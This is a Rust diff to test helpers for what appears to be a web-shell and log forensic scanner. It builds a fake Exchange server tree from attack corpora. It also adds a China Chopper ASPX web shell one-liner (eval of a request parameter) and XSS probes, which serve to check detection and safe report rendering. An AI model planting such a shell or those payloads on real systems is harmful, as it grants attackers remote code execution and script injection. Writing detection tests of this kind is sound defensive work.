@@ -288,7 +288,67 @@ fn canonical_coverage(r: &mut ScanResult) {
             origin: "embedded".into(),
         }),
         build_table: Some("2026-11-01".into()),
+        input_hashes: vec![InputHash {
+            path: "logs/Security.evtx".into(),
+            size: 69_632,
+            sha256: "dd".repeat(32),
+        }],
     };
+}
+
+/// A web shell of our own that quotes script an attacker hopes a report will
+/// run, with a China Chopper one-liner the built-in rules detect.
+pub const HOSTILE_SHELL: &str = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"orange\"],\"unsafe\");%>\n<script>window.__pwned=1</script>\n<img src=x onerror=\"window.__pwned=2\">\n";
+
+/// A scan tree made of real corpus samples, laid out like a small Exchange
+/// server: `shells` web shells whose text contains `<script` under the web
+/// root (plus [`HOSTILE_SHELL`]), the real IIS log of a Tunna tunnel and the
+/// Tomcat access log with web-shell traffic under `logs/`, and the OTRF
+/// ProxyLogon event export (zipped JSON) under `events/`.
+pub fn corpus_tree(corpora: &std::path::Path, shells: usize, root: &std::path::Path) {
+    let web = root.join("inetpub/wwwroot/aspnet_client/system_web");
+    std::fs::create_dir_all(&web).expect("create web root");
+    for (i, (file, bytes)) in script_webshells(corpora, shells).into_iter().enumerate() {
+        let name = file.rsplit('/').next().unwrap_or(&file).replace(' ', "_");
+        std::fs::write(web.join(format!("{i:03}-{name}")), bytes).expect("copy a web shell");
+    }
+    std::fs::write(web.join("errorEE.aspx"), HOSTILE_SHELL).expect("write the hostile shell");
+    let logs = root.join("logs");
+    std::fs::create_dir_all(&logs).expect("create logs");
+    for (from, to) in [
+        (
+            "weblogs/EVTX-ATTACK-SAMPLES/Command and Control/Tunna_rdp_tunnel_IIS.log",
+            "u_ex190105.log",
+        ),
+        (
+            "weblogs/EVTX-ATTACK-SAMPLES/Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt",
+            "localhost_access_log.txt",
+        ),
+    ] {
+        std::fs::copy(corpora.join(from), logs.join(to)).expect("copy a corpus log");
+    }
+    let events = root.join("events");
+    std::fs::create_dir_all(&events).expect("create events");
+    std::fs::copy(
+        corpora.join("eventlog-json/OTRF-Security-Datasets/proxylogon_ssrf_rce_poc.zip"),
+        events.join("proxylogon_ssrf_rce_poc.zip"),
+    )
+    .expect("copy the ProxyLogon event export");
+}
+
+/// Scan `root` with the real engine and the built-in rules (no rule cache),
+/// with `started`/`finished` pinned so renders can be compared.
+pub fn engine_scan(root: &std::path::Path, host: &str) -> ScanResult {
+    let mut options = vigie_scan::ScanOptions::new(vec![root.to_path_buf()]);
+    options.no_cache = true;
+    options.host = Some(host.to_string());
+    let engine = vigie_scan::Engine::load(options).expect("built-in rules load");
+    let mut r = engine.scan(&vigie_scan::NoProgress);
+    r.started = t(2026, 11, 20, 9, 0, 0);
+    r.finished = t(2026, 11, 20, 9, 0, 42);
+    r.provenance.command_line =
+        vec!["vigie".into(), "scan".into(), root.to_string_lossy().into_owned()];
+    r
 }
 
 /// The corpora root, or `None` (with a message; panics under `CI=true`).
@@ -463,10 +523,14 @@ pub fn node_helpers() -> Option<PathBuf> {
     Some(dir)
 }
 
-/// Where tests leave artefacts (screenshots, rendered files).
-pub fn artefacts() -> PathBuf {
-    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("../test-artifacts");
-    std::fs::create_dir_all(&dir).expect("create test-artifacts folder");
+/// Where tests leave artefacts (screenshots, rendered files): the folder
+/// `name` under `$VIGIE_TEST_ARTIFACTS`, else under `<target>/test-artifacts/`.
+pub fn artefacts(name: &str) -> PathBuf {
+    let base = std::env::var_os("VIGIE_TEST_ARTIFACTS")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("../test-artifacts"));
+    let dir = base.join(name);
+    std::fs::create_dir_all(&dir).expect("create the test-artifacts folder");
     dir.canonicalize().unwrap_or(dir)
 }
 
